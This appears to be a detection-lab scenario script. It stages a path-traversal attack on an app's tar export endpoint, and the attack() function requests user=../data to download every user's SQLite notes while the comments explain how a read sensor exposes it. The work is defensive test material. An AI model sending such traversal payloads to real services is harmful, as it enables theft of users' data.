# Path traversal through the app: a user's files are exported as a gzipped tar (`tar czf - -C
# /srv/app/files/USER .`), the user's name joined to the path unchecked. The attacker asks for the user `../data`
# and downloads the notes of every user (the app's SQLite database). No shell, no new program (the app runs tar for
# every export), no sensitive file, nothing sent but the app's own reply: the sensor reports tar's reads only when
# asked for every read (`kestrel record --reads`), and what gives the theft away is then tar — a program that never
# listens, so all its short life is its start-up — reading where it never reads (T1190, T1005).
IMAGE=app
normal() {
  app_traffic "$WEB_PORT" 60
  # A user's export, so that the app's tar of one user's files is part of every normal phase.
  python3 - "$WEB_PORT" <<'PY' || true
import sys, urllib.request
base = f"http://127.0.0.1:{sys.argv[1]}"
urllib.request.urlopen(urllib.request.Request(base + "/files/alice/a.txt", data=b"hello", method="PUT"), timeout=10)
urllib.request.urlopen(base + "/export?user=alice", timeout=10).read()
PY
}
attack() {
  timeout 15 busybox wget -q -O "$LAB_DIR/export.$$.tgz" "http://127.0.0.1:$WEB_PORT/export?user=../data" || true
  # What the attacker got (kept for the lab's test).
  tar tzf "$LAB_DIR/export.$$.tgz" > "$LAB_DIR/listing.$$.out" 2>&1 || true
}
